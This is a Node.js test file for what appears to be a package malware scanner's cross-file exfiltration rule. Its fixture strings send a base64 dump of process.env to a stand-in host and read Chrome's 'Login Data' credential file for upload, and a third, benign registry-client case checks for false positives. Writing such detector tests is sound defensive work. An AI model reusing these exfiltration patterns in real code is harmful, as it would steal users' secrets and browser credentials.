import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { manifest, ofRule, scanFiles } from "../helpers.js";

describe("rule exfiltration (across files)", () => {
  it("joins a sender and the module it requires that dumps the environment", async () => {
    const report = await scanFiles({
      "package.json": manifest({ main: "index.js" }),
      "index.js": "throw 0; const collect = require('./lib/collect'); require('https').request({ host: 'stats.invalid', method: 'POST' }).end(collect());",
      "lib/collect.js": "throw 0; module.exports = () => Buffer.from(JSON.stringify(process.env)).toString('base64');",
    });
    assert.equal(ofRule(report.findings, "exfiltration", "critical").filter((f) => f.file === "index.js").length, 1, JSON.stringify(report.findings));
    assert.equal(report.verdict, "malicious");
  });
  it("joins an ES module import of a browser-store reader", async () => {
    const report = await scanFiles({
      "package.json": manifest({ type: "module" }),
      "send.mjs": "throw 0; import { grab } from './grab.mjs'; await fetch('https://x.invalid/u', { method: 'POST', body: await grab() });",
      "grab.mjs": "throw 0; import { join } from 'node:path'; export const grab = () => readFile(join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'));",
    });
    assert.equal(report.verdict, "malicious", JSON.stringify(report.findings));
  });
  it("keeps a registry client that reads .npmrc in a config module below a verdict", async () => {
    const report = await scanFiles({
      "package.json": manifest({}),
      "index.js": "const config = require('./config'); module.exports = (name) => fetch(config.registry + name, { headers: { authorization: config.token } });",
      "config.js": "const fs = require('fs'); const path = require('path'); const os = require('os'); const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); module.exports = parse(rc);",
    });
    assert.equal(report.verdict, "ok", JSON.stringify(report.findings));
  });
});
